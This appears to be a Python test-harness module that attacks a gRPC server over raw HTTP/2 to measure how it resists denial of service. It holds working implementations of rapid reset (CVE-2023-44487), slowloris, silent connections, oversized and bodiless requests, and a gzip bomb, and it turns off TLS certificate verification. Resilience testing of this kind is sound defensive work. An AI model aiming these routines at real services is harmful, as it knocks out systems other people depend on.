"""An attacker of the page server that speaks raw HTTP/2 (python-hyper's h2), for
the attacks a gRPC client cannot make: headers without a body, bodies larger
than any message, a stream reset right after it opens, a connection that never
says anything or says it one byte at a time, a per-message compression bomb.

Each attack returns what it observed; the tests measure what it cost the source
(/proc/PID/status, /proc/PID/fd) and whether other peers were served meanwhile.
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import ssl
import struct
import threading
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions

SERVICE = "/migrator.wire.Migration/"


def grpc_frame(payload: bytes, compressed: bool = False, declared: int | None = None) -> bytes:
    """A gRPC length-prefixed message (the length may lie: ``declared``)."""
    return struct.pack(">BI", 1 if compressed else 0, len(payload) if declared is None else declared) + payload


def connect(address: str, tls: bool, timeout: float = 5.0) -> socket.socket:
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=timeout)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname=host)
    return sock


class H2Client:
    """One HTTP/2 connection driven by hand."""

    def __init__(self, address: str, tls: bool = False, secret: str | None = None) -> None:
        self.sock = connect(address, tls)
        self.scheme = "https" if tls else "http"
        self.secret = secret
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.flush()
        self.status: dict[int, str] = {}  # stream -> grpc-status, once answered
        self.closed = False
        self.goaway: int | None = None  # the error code of the server's GOAWAY, once received

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def open(self, method: str, *, end: bool = False, extra: tuple[tuple[str, str], ...] = ()) -> int:
        sid = self.conn.get_next_available_stream_id()
        headers = [(":method", "POST"), (":scheme", self.scheme), (":path", SERVICE + method),
                   (":authority", "source"), ("content-type", "application/grpc"), ("te", "trailers"), *extra]  # fmt: skip
        if self.secret:
            headers.append(("authorization", f"Bearer {self.secret}"))
        self.conn.send_headers(sid, headers, end_stream=end)
        self.flush()
        return sid

    def send(self, sid: int, data: bytes, end: bool = True) -> int:
        """Send as much of ``data`` as flow control allows now; returns bytes sent."""
        try:
            n = min(len(data), self.conn.local_flow_control_window(sid), self.conn.max_outbound_frame_size * 64)
            self.conn.send_data(sid, data[:n], end_stream=end and n == len(data))
            self.flush()
            return n
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, OSError):
            return 0

    def ping(self) -> None:
        """An HTTP/2 PING (what a keepalive sends when the connection has no data)."""
        self.conn.ping(struct.pack(">Q", time.monotonic_ns()))
        self.flush()

    def reset(self, sid: int) -> None:
        with contextlib.suppress(h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
            self.conn.reset_stream(sid)
        self.flush()

    def pump(self, seconds: float) -> None:
        """Read and handle what the server sends for up to ``seconds``."""
        deadline = time.monotonic() + seconds
        while not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65536)
            except (TimeoutError, socket.timeout, ssl.SSLError):
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                return
            for ev in events:
                if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    for k, v in ev.headers:
                        if k == "grpc-status":
                            self.status[ev.stream_id] = v
                elif isinstance(ev, h2.events.StreamReset):
                    self.status.setdefault(ev.stream_id, "RST")  # refused by the transport (e.g. REFUSED_STREAM)
                elif isinstance(ev, h2.events.DataReceived):
                    self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    self.goaway = int(ev.error_code) if ev.error_code is not None else 0
                    self.closed = True
            with contextlib.suppress(OSError):
                self.flush()

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.conn.close_connection()
            self.flush()
        with contextlib.suppress(OSError):
            self.sock.close()
        self.closed = True


# -- attacks --------------------------------------------------------------------------------
@dataclass
class Report:
    name: str
    calls: int = 0
    answered: dict[str, int] = field(default_factory=dict)  # grpc-status -> count
    seconds: float = 0.0
    note: str = ""

    def add(self, statuses: dict[int, str]) -> None:
        for v in statuses.values():
            self.answered[v] = self.answered.get(v, 0) + 1


def headers_without_body(address: str, tls: bool, connections: int = 8, per_conn: int = 16, hold: float = 2.0,
                         secret: str | None = None, method: str = "Describe") -> Report:  # fmt: skip
    """Calls that send their headers and never their body; held open ``hold`` s."""
    r = Report("headers without a body" + (" (with the secret)" if secret else ""))
    t0 = time.monotonic()
    clients = [H2Client(address, tls, secret) for _ in range(connections)]
    for c in clients:
        for _ in range(per_conn):
            c.open(method)
            r.calls += 1
    for c in clients:
        c.pump(hold / connections)
    for c in clients:
        c.pump(0.05)
        r.add(c.status)
        c.close()
    r.seconds = time.monotonic() - t0
    return r


def big_bodies(address: str, tls: bool, streams: int = 32, size: int = 60 << 20, rounds: int = 3) -> Report:
    """Requests declaring (and starting to send) bodies of ``size`` bytes, without the secret."""
    r = Report(f"{size >> 20} MiB bodies")
    t0 = time.monotonic()
    chunk = bytes(1 << 20)
    for _ in range(rounds):
        c = H2Client(address, tls)
        sids = [c.open("Stream") for _ in range(streams)]
        r.calls += streams
        for sid in sids:
            c.send(sid, grpc_frame(b"", declared=size), end=False)
        for _ in range(8):  # keep pushing while the windows allow
            for sid in sids:
                c.send(sid, chunk, end=False)
            c.pump(0.05)
        c.pump(0.5)
        r.add(c.status)
        c.close()
    r.seconds = time.monotonic() - t0
    return r


def rapid_reset(address: str, tls: bool, seconds: float = 3.0, connections: int = 2, stop: threading.Event | None = None) -> Report:
    """HEADERS then RST_STREAM at once, in a loop (CVE-2023-44487's shape)."""
    r = Report("rapid reset")
    t0 = time.monotonic()
    clients = [H2Client(address, tls) for _ in range(connections)]
    while time.monotonic() - t0 < seconds and not (stop is not None and stop.is_set()):
        for c in clients:
            if c.closed:
                continue
            try:
                for _ in range(50):
                    sid = c.open("Describe")
                    c.reset(sid)
                    r.calls += 1
            except (OSError, h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError):
                c.closed = True
            c.pump(0.001)
        if all(c.closed for c in clients):
            r.note = "the server closed the connections"
            try:
                clients = [H2Client(address, tls) for _ in range(connections)]
            except OSError:
                r.note = "the server went away (its migration ended)"
                break
    for c in clients:
        c.close()
    r.seconds = time.monotonic() - t0
    return r


def silent_connections(address: str, tls: bool, n: int = 100) -> tuple[Report, list[socket.socket]]:
    """TCP (and TLS) connections that never send a byte; returned open for the caller to watch."""
    r = Report("silent connections")
    socks = []
    host, port = address.rsplit(":", 1)
    for _ in range(n):
        with contextlib.suppress(OSError):
            socks.append(socket.create_connection((host, int(port)), timeout=5))
            r.calls += 1
    return r, socks


def closed_by_peer(sock: socket.socket) -> bool:
    """True once the server has closed this connection (EOF or reset)."""
    sock.setblocking(False)
    try:
        return sock.recv(1 << 16) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def slowloris(address: str, n: int = 20, seconds: float = 8.0) -> Report:
    """Send the HTTP/2 preface one byte at a time; report when the server hangs up."""
    r = Report("a byte at a time")
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    host, port = address.rsplit(":", 1)
    socks = [socket.create_connection((host, int(port)), timeout=5) for _ in range(n)]
    r.calls = n
    t0 = time.monotonic()
    sent = 0
    while time.monotonic() - t0 < seconds and socks:
        for s in list(socks):
            if closed_by_peer(s):
                socks.remove(s)
                s.close()
                continue
            with contextlib.suppress(OSError):
                s.setblocking(True)
                s.sendall(preface[sent % len(preface) : sent % len(preface) + 1])
        sent += 1
        time.sleep(0.25)
    r.seconds = time.monotonic() - t0
    r.note = f"{n - len(socks)} of {n} closed by the server after {r.seconds:.1f} s"
    for s in socks:
        s.close()
    return r


def gzip_bomb(address: str, tls: bool, secret: str | None, size: int = 1 << 30) -> Report:
    """A per-message gzip-compressed request that expands to ``size`` bytes."""
    r = Report("gzip bomb" + (" (with the secret)" if secret else ""))
    bomb = gzip.compress(bytes(size // 1024) * 1024, compresslevel=9) if size <= 1 << 26 else _big_gzip(size)
    c = H2Client(address, tls, secret)
    sid = c.open("Stream", extra=(("grpc-encoding", "gzip"),))
    c.send(sid, grpc_frame(bomb, compressed=True), end=True)
    r.calls = 1
    c.pump(3.0)
    r.add(c.status)
    c.close()
    return r


def _big_gzip(size: int) -> bytes:
    """gzip of ``size`` zero bytes, made in pieces (never holding ``size`` bytes)."""
    import zlib

    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    out = [z.compress(block) for _ in range(size >> 20)]
    out.append(z.flush())
    return b"".join(out)
